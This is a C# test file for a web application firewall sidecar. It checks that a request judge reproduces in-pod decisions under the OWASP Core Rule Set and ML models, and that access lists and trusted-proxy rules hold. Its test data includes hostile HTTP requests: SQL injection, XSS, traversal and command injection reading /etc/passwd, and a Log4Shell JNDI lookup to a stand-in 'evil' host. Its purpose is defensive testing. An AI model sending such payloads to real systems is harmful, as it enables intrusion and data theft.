using System.Net;
using System.Text;
using System.Text.Json;
using WafOperator.Protocols;
using WafOperator.Protocols.Events;
using WafOperator.Protocols.Models;
using WafOperator.Protocols.Policies;
using WafOperator.Proxy.Judging;
using WafOperator.Proxy.Tests.Harness;
using WafOperator.Proxy.Tests.Unseen;

namespace WafOperator.Proxy.Tests.Judging;

/// <summary>Requests that go nowhere are decided as in a pod, with the Core Rule Set and models.</summary>
public sealed class RequestJudgeTests
{
    private const string Rules = "/usr/share/modsecurity-crs";

    private static readonly string[] Attacks =
    [
        "GET /?q=1'+UNION+SELECT+password+FROM+users-- HTTP/1.1\r\nHost: shop\r\nUser-Agent: x\r\n\r\n",
        "GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: shop\r\nUser-Agent: x\r\n\r\n",
        "GET /?f=../../../../etc/passwd HTTP/1.1\r\nHost: shop\r\nUser-Agent: x\r\n\r\n",
        "GET /?c=;cat+/etc/passwd HTTP/1.1\r\nHost: shop\r\nUser-Agent: sqlmap/1.7\r\n\r\n",
        "POST /c HTTP/1.1\r\nHost: shop\r\nContent-Type: application/json\r\nContent-Length: 31\r\n\r\n"
            + "{\"a\":\"${jndi:ldap://evil/x.y}\"}",
        "HEAD /?q=%27%20or%201%3D1 HTTP/1.1\r\nHost: shop\r\n\r\n",
    ];

    public static TheoryData<DecisionKind, InspectionMode> Policies => new()
    {
        { DecisionKind.Joint, InspectionMode.Enforce }, { DecisionKind.Rules, InspectionMode.Detect },
    };

    [Theory, MemberData(nameof(Policies))]
    public async Task ARequest_IsDecidedAsInAPod(DecisionKind decision, InspectionMode mode)
    {
        var policy = Policy(decision, mode);
        var requests = Benign().Concat(Attacks).Select(Closing).Select(Encoding.Latin1.GetBytes).ToList();
        await using var upstream = await TestUpstream.StartAsync();
        await using var sidecar = await TestSidecar.StartAsync(
            upstream.Address, policy, o => o with { RulesDirectory = Rules, ModelsDirectory = Packages() });
        foreach (var request in requests)
        {
            using var connection = await RawConnection.OpenAsync(sidecar.Endpoint);
            await connection.Stream.WriteAsync(request);
            Assert.StartsWith("HTTP/1.1 ", await connection.ReadToEndAsync(), StringComparison.Ordinal);
        }

        var expected = (await sidecar.EventsAsync()).Select(Essence).ToList();
        await using var judge = await JudgeAsync(policy);
        Assert.True(requests.Count == expected.Count, string.Join("\n", expected.Take(12)));
        for (var i = 0; i < requests.Count; i++)
        {
            var judged = await judge.JudgeAsync(requests[i], IPAddress.Loopback, default);
            Assert.Equal(expected[i], Essence(judged.Decision!));
            if (i >= requests.Count - Attacks.Length) Assert.Equal(VerdictKind.Block, judged.Verdict);
        }
    }

    /// <summary>Requests that are cut, framed in odd ways and coded in all ways, each by itself.</summary>
    [Fact]
    public async Task OddRequests_AreDecidedAsInAPod()
    {
        var policy = TestSidecar.Policy(InspectionMode.Enforce, """
            SecRule REQUEST_URI|REQUEST_HEADERS|ARGS|REQUEST_BODY "@contains evilmarker" \
                "id:1,phase:2,deny,t:none,t:urlDecodeUni,t:lowercase"
            SecRule REQBODY_ERROR "!@eq 0" "id:2,phase:2,deny,status:400"
            """) with { Logging = new DecisionLogging { Decisions = DecisionLogLevel.All } };
        await using var upstream = await TestUpstream.StartAsync();
        await using var sidecar = await TestSidecar.StartAsync(upstream.Address, policy);
        await using var judge = await RequestJudge.StartAsync(policy, new JudgeOptions(), default);
        var statuses = new List<(int Number, string Answer, Judgement Judged)>();
        foreach (var number in Enumerable.Range(0, 400))
        {
            var attack = AttackGenerator.Make(20261130, number);
            // Calls and messages have decisions of their own for what comes after the head.
            if (attack.IsHttp2 || Text(attack).Contains("Upgrade: websocket", StringComparison.Ordinal)
                || Text(attack).Contains("grpc", StringComparison.Ordinal)) continue;
            var bytes = Encoding.Latin1.GetBytes(Text(attack));
            using var connection = await RawConnection.OpenAsync(sidecar.Endpoint);
            await connection.Stream.WriteAsync(bytes);
            var answer = await connection.ReadUntilAsync("\r\n\r\n");
            statuses.Add((number, answer, await judge.JudgeAsync(bytes, IPAddress.Loopback, default)));
        }

        var events = (await sidecar.EventsAsync()).ToLookup(e => RecordingApplication.NumberIn(e.Path));
        Assert.True(statuses.Count > 200, $"only {statuses.Count} requests are left");
        foreach (var (number, answer, judged) in statuses)
        {
            Assert.True(
                events[number].Any() == judged.Decision is not null,
                $"{AttackGenerator.Make(20261130, number)}\n{answer}\n{judged}");
            if (judged.Decision is { } decision)
                Assert.Equal(Essence(events[number].First()), Essence(decision));
        }
    }

    [Fact]
    public async Task TheClient_IsWhoItIsSaidToBe_AndThePolicySaysWhomToBelieve()
    {
        var policy = TestSidecar.Policy(InspectionMode.Enforce) with
        {
            AccessLists = new AccessLists { DenyClients = ["192.0.2.0/24"] },
            ClientIdentity = new ClientIdentity { TrustedProxies = ["198.51.100.0/24"] },
        };
        await using var judge = await RequestJudge.StartAsync(policy, new JudgeOptions(), default);
        async Task<string> ReasonAsync(string client, string more = "") => (await judge.JudgeAsync(
            Encoding.Latin1.GetBytes($"GET / HTTP/1.1\r\nHost: shop\r\n{more}\r\n"), IPAddress.Parse(client), default))
            .Decision!.Reason;

        Assert.Equal("AccessList", await ReasonAsync("192.0.2.7"));
        Assert.Equal("None", await ReasonAsync("203.0.113.7", "X-Forwarded-For: 192.0.2.7\r\n"));
        Assert.Equal("AccessList", await ReasonAsync("198.51.100.1", "X-Forwarded-For: 192.0.2.7\r\n"));
    }

    [Theory]
    [InlineData("GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /two HTTP/1.1\r\nHost: a\r\n\r\n", 2)]
    [InlineData("GET / HTTP/1.1\r\nHost: a\r\n\r\n", 1)]
    public async Task MoreThanOneRequest_IsSaid(string text, int requests)
    {
        await using var judge = await RequestJudge.StartAsync(
            TestSidecar.Policy(InspectionMode.Enforce), new JudgeOptions(), default);
        var judged = await judge.JudgeAsync(Encoding.Latin1.GetBytes(text), IPAddress.Loopback, default);
        Assert.Equal((requests, "/"), (judged.Requests, judged.Decision!.Path));
    }

    [Theory]
    [InlineData("")]
    [InlineData("nonsense")]
    [InlineData("\r\n\r\n")]
    [InlineData("POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 10\r\n\r\nabc")]
    [InlineData("G{T / HTTP/1.1\r\nHost: a\r\n\r\n")]
    [InlineData("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n")]
    public async Task WhatIsNoRequest_PassesNowhere(string text)
    {
        await using var judge = await RequestJudge.StartAsync(
            TestSidecar.Policy(InspectionMode.Enforce), new JudgeOptions(), default);
        var judged = await judge.JudgeAsync(Encoding.Latin1.GetBytes(text), IPAddress.Loopback, default);
        Assert.Equal(VerdictKind.Block, judged.Verdict);
    }

    [Fact]
    public async Task ModeOff_JudgesNothing()
    {
        await using var judge = await RequestJudge.StartAsync(
            TestSidecar.Policy(InspectionMode.Off), new JudgeOptions(), default);
        var judged = await judge.JudgeAsync(Encoding.Latin1.GetBytes(Attacks[0]), IPAddress.Loopback, default);
        Assert.Equal((true, 200, null), (judge.IsOff, judged.Status, judged.Decision));
    }

    [Fact]
    public async Task APolicyThatCannotBeUsed_IsRefusedWithItsReason()
    {
        var policy = TestSidecar.Policy(InspectionMode.Enforce, "SecRule ARGS");
        await Assert.ThrowsAsync<JudgingException>(() => RequestJudge.StartAsync(policy, new JudgeOptions(), default));
    }

    /// <summary>What must be equal: all but id, time, pod, revision and how long it took.</summary>
    private static string Essence(SecurityEvent e) => JsonSerializer.Serialize(e with
    {
        Id = "", Time = default, Pod = null, Revision = "", InspectionMicroseconds = 0,
        Models = [.. e.Models.Select(model => model with { Microseconds = 0 })],
    }, ProtocolJson.Default.SecurityEvent);

    private static string Closing(string request) =>
        request.Insert(request.IndexOf("\r\n", StringComparison.Ordinal), "\r\nConnection: close");

    private static string Text(HiddenAttack attack) =>
        Encoding.Latin1.GetString([.. attack.Wire.SelectMany(part => part.Bytes)]);

    private static Task<RequestJudge> JudgeAsync(PolicyDocument policy) => RequestJudge.StartAsync(
        policy, new JudgeOptions { RulesDirectory = Rules, ModelsDirectory = Packages() }, default);

    private static PolicyDocument Policy(DecisionKind decision, InspectionMode mode) => TestSidecar.Policy(mode) with
    {
        Decision = decision,
        Rules = new RulePolicy { Sources = [new RuleSource { Name = "owasp-crs", RuleSet = "owasp-crs" }] },
        Logging = new DecisionLogging { Decisions = DecisionLogLevel.All },
        Ml = new MlPolicy
        {
            Mode = InspectionMode.Enforce,
            Models = [Assignment("gate"), Assignment("payload-cnn")],
            MediumAction = RiskActionKind.Block,
            // Not the machine's load, but the request decides.
            LatencyBudget = TimeSpan.FromSeconds(30),
        },
    };

    private static ModelAssignment Assignment(string family)
    {
        var version = Directory.EnumerateFiles(Packages(), $"{family}-*.tar")
            .Max(file => Version.Parse(Path.GetFileNameWithoutExtension(file)[(family.Length + 1)..]))!.ToString();
        var archive = File.ReadAllBytes(Path.Combine(Packages(), $"{family}-{version}.tar"));
        return new ModelAssignment
        {
            Model = family,
            Baseline = new ModelBlob
            {
                Version = version, Digest = ModelPackageReader.DigestOf(archive),
            },
        };
    }

    private static string Packages()
    {
        for (var folder = new DirectoryInfo(AppContext.BaseDirectory); folder is not null; folder = folder.Parent)
        {
            var packages = Path.Combine(folder.FullName, "models", "packages");
            if (Directory.Exists(packages)) return packages;
        }

        throw new InvalidOperationException("models/packages is not above the test's folder");
    }

    private static IEnumerable<string> Benign()
    {
        foreach (var line in File.ReadLines(Path.Combine(AppContext.BaseDirectory,
            "Enforcement/Requests/benign.jsonl")))
        {
            using var record = JsonDocument.Parse(line);
            yield return record.RootElement.GetProperty("request").GetString()!;
        }
    }
}
